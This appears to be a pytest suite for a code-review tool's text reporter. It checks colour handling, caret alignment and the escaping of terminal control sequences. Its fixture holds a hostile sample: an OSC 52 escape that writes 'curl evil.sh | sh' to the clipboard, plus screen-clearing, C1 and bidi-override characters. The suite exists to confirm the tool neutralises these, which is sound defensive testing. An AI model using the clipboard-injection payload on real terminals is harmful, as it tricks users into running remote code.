"""The text report as a user sees it: under a real pseudo-terminal (pexpect), piped, and in files.

Colour on a terminal only (NO_COLOR and FORCE_COLOR respected); severity and confidence on every
finding; carets under the right cells after tabs and wide characters; and reviewed code that tries to
drive the terminal (OSC 52, CSI, C1 controls, bidi overrides) printed escaped, never raw.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pexpect
import pytest
from rich.cells import cell_len

from reviewbot.reporters.terminal import wants_color

REVIEWBOT = Path(sys.executable).parent / "reviewbot"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes "curl evil.sh | sh" to the clipboard
CSI_CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
BIDI = "\u202e"
HOSTILE = (
    "def refund(order):\n"
    f"\tamount: float = order.total  # {OSC52} {CSI_CLEAR} {C1_CSI} {BIDI}rebmun\n"
    "\treturn gateway.refund(order.psp_reference, amount)\n"
    "\n"
    'label = "日本の支払い 💳"; price: float = 2.5\n'
)
RAW_CONTROLS = (OSC52, "\x1b]52", CSI_CLEAR, "\x1b[2J", C1_CSI, "\x9b", BIDI, "\x07")
ANSI_SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    (root / "refunds.py").write_text(HOSTILE, encoding="utf-8")
    return root


def _env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "FORCE_COLOR", "TERM", "COLUMNS")}
    env.update(TERM="xterm-256color", **extra)
    return env


def under_pty(cwd: Path, *args: str, **env: str) -> tuple[int, str]:
    child = pexpect.spawn(str(REVIEWBOT), list(args), cwd=str(cwd), env=_env(**env), encoding="utf-8",
                          codec_errors="replace", timeout=120, dimensions=(40, 100))
    output = child.read()
    child.close()
    return child.exitstatus, output


def piped(cwd: Path, *args: str, **env: str) -> tuple[int, str]:
    done = subprocess.run([str(REVIEWBOT), *args], cwd=cwd, env=_env(**env), capture_output=True, text=True,
                          timeout=120, check=False)
    return done.returncode, done.stdout


def assert_no_raw_controls(output: str) -> None:
    without_colour = ANSI_SGR.sub("", output)
    for raw in RAW_CONTROLS:
        assert raw not in without_colour, repr(raw)
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in without_colour  # shown, escaped
    assert "\\x9b31m" in without_colour and "\\u202erebmun" in without_colour


def test_a_terminal_gets_colour_and_hostile_code_is_shown_escaped(hostile):
    status, output = under_pty(hostile, "audit", "refunds.py", "--tools", "none", "-q")
    assert status == 1  # a float amount that reaches the PSP (and a float price shown as a warning)
    assert ANSI_SGR.search(output), output
    assert_no_raw_controls(output)


def test_no_color_turns_colour_off_even_on_a_terminal(hostile):
    status, output = under_pty(hostile, "audit", "refunds.py", "--tools", "none", "-q", NO_COLOR="1")
    assert status == 1
    assert "\x1b[" not in output.replace("\\x1b[", ""), output
    assert_no_raw_controls(output)


def test_piped_output_has_no_colour_and_no_raw_controls(hostile):
    status, output = piped(hostile, "audit", "refunds.py", "--tools", "none", "-q")
    assert status == 1
    assert not ANSI_SGR.search(output), output
    assert_no_raw_controls(output)


def test_force_color_colours_a_pipe(hostile):
    _status, output = piped(hostile, "audit", "refunds.py", "--tools", "none", "-q", FORCE_COLOR="1")
    assert ANSI_SGR.search(output), output
    assert_no_raw_controls(output)


def test_every_output_format_keeps_controls_inert(hostile):
    for fmt in ("json", "sarif", "github"):
        _status, output = piped(hostile, "audit", "refunds.py", "--tools", "none", "-q", "--format", fmt)
        for raw in RAW_CONTROLS:
            assert raw not in output, (fmt, repr(raw))


def _caret_under(output: str, line_number: int) -> tuple[str, str]:
    """(the displayed code line, the caret line below it) from a frame."""
    lines = output.splitlines()
    index = next(i for i, line in enumerate(lines) if re.match(rf"\s+{line_number} \| ", line))
    return lines[index], lines[index + 1]


def test_carets_sit_under_the_span_after_tabs_and_wide_characters(hostile):
    _status, output = piped(hostile, "audit", "refunds.py", "--tools", "none", "-q", "--select", "RB101")
    code, carets = _caret_under(output, 5)  # label = "日本の支払い 💳"; price: float = 2.5
    start = cell_len(code[: code.index("float")])
    assert carets.index("^") == start and carets.count("^") == len("float"), output

    code, carets = _caret_under(output, 2)  # \tamount: float = ...  (a tab, as gofmt writes)
    assert code.split("| ", 1)[1].startswith("    amount: float")  # the tab is expanded, not printed raw
    assert carets.index("^") == cell_len(code[: code.index("float")]), output


def test_each_finding_says_its_severity_and_confidence_as_json_does(hostile):
    import json

    for extra in ((), ("--fail-on", "never")):
        _status, output = piped(hostile, "audit", "refunds.py", "--tools", "none", "-q", *extra)
        _status, document = piped(hostile, "audit", "refunds.py", "--tools", "none", "-q", "--format", "json", *extra)
        expected = [
            f"  = {f['severity']}, {f['confidence']} confidence"
            + (", blocks the gate" if not extra and f["severity"] == "error" else "")
            for f in json.loads(document)["findings"]
        ]
        assert expected and [line for line in output.splitlines() if line.startswith("  = ") and "confidence" in line] == expected


def test_a_run_whose_findings_are_all_in_the_baseline_says_so(hostile):
    subprocess.run([str(REVIEWBOT), "baseline", "--tools", "none", "-q"], cwd=hostile, env=_env(), check=True,
                   capture_output=True)
    status, output = piped(hostile, "audit", "refunds.py", "--tools", "none", "-q")
    assert status == 0
    assert "Found 0 findings in 1 file; 2 known findings in the baseline (--no-baseline shows them)." in output


def test_the_plain_ascii_shortcut_of_escaping_changes_nothing_for_any_character():
    from reviewbot.reporters import escape

    for code in range(0x3000):
        text = f"a{chr(code)}b"
        assert escape.printable(text) == escape._UNSAFE_IN_LINE_RE.sub(escape._escaped, text), hex(code)
        assert escape.printable_code(text) == escape._UNSAFE_IN_CODE_RE.sub(escape._escaped, text), hex(code)
    assert escape.printable("\x1b]52;c;ZXZpbA==\x07") == "\\x1b]52;c;ZXZpbA==\\x07"


class _Stream(io.StringIO):
    def __init__(self, tty: bool | None) -> None:
        super().__init__()
        self.tty = tty

    def isatty(self) -> bool:
        if self.tty is None:
            raise ValueError("I/O operation on closed file")
        return self.tty


@pytest.mark.parametrize("tty", [True, False, None])
@pytest.mark.parametrize("tty_compatible", [None, "0", "1", "x"])
@pytest.mark.parametrize("force_color", [None, "", "1"])
@pytest.mark.parametrize("no_color", [None, "1"])
@pytest.mark.parametrize("term", [None, "dumb", "xterm-256color"])
def test_wants_color_is_riches_decision_without_asking_rich_when_it_cannot_say_yes(
    monkeypatch, tty, tty_compatible, force_color, no_color, term
):
    from rich.console import Console

    for name, value in (("TTY_COMPATIBLE", tty_compatible), ("FORCE_COLOR", force_color), ("NO_COLOR", no_color),
                        ("TERM", term)):
        if value is None:
            monkeypatch.delenv(name, raising=False)
        else:
            monkeypatch.setenv(name, value)
    monkeypatch.delenv("JUPYTER_COLUMNS", raising=False)
    stream = _Stream(tty)
    console = Console(file=stream)
    riches = console.is_terminal and console.color_system is not None and not console.no_color
    assert wants_color(stream) == riches
